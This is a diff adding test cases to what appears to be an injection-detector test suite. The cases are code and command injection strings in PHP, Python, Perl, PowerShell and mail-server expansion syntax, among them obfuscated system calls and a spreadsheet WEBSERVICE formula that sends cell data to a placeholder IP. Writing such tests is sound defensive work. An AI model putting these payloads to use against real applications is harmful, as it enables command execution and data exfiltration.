@@ -19,6 +19,17 @@ test.each([
   'forName("java.lang.Runtime")',
   'phpinfo()',
   "array_map('system', x)",
+  "usort($x, 'passthru')",
+  'system(id)',
+  'print(md5(42))',
+  "scandir('/')",
+  "show_source('index.php')",
+  '__import__("time")',
+  'eval("__import__(1)")',
+  'System.Diagnostics.Process.Start("cmd")',
+  'process.exit(1)',
+  "ini_set('x', 'y')",
+  '<? passthru("ls")',
 ])('%s runs a command or code', (text) => {
   expect(callIn(text)).toBeGreaterThanOrEqual(0.6);
 });
@@ -32,6 +43,12 @@ test.each([
   "require('fs')",
   'print("id")',
   'phpinfo(page)',
+  'when done, process.exit(1)',
+  'the set system(id)',
+  'pattern.exec(date)',
+  "usort($x, 'byName')",
+  "print(sum('a'))",
+  "files.scandir('photos')",
   '(id)',
 ])('%s does not', (text) => {
   expect(callIn(text)).toBe(0);
@@ -63,6 +80,15 @@ test.each([
   [`{\${@phpinfo()}}`, 'expression in a PHP string'],
   ['$_GET[0]($_GET[1])', 'call of what the request holds'],
   ['x$((41+1))', 'arithmetic expansion'],
+  ["('system')('id')", 'call of a function named by a text'],
+  ['("sys"."tem")("id")', 'call of a function named by a text'],
+  ["$f='system';$f('id')", 'function kept in a variable'],
+  ['().__class__.__bases__', 'way to every class of Python'],
+  [`-be \${run{/bin/id}}`, 'expansion of a mail server'],
+  ['$_GET[0]', 'value of the request in PHP'],
+  ['=WEBSERVICE("http://203.0.113.9/?"&A1)', 'formula that sends a cell'],
+  [';$PSVersionTable', 'variable of PowerShell'],
+  ['qx{id}', 'command literal of Perl'],
 ])('%s is told by a %s', (text, pattern) => {
   expect(tellIn(text)).toBe(pattern);
 });
@@ -77,6 +103,9 @@ test.each([
   `\`\${a}-\${b}\``,
   '#{id}',
   '$5; $6',
+  '=HYPERLINK("https://example.org","x")',
+  'costs $0 or $1',
+  "(system) and ('id')",
 ])('%s tells nothing', (text) => {
   expect(tellIn(text)).toBeNull();
 });
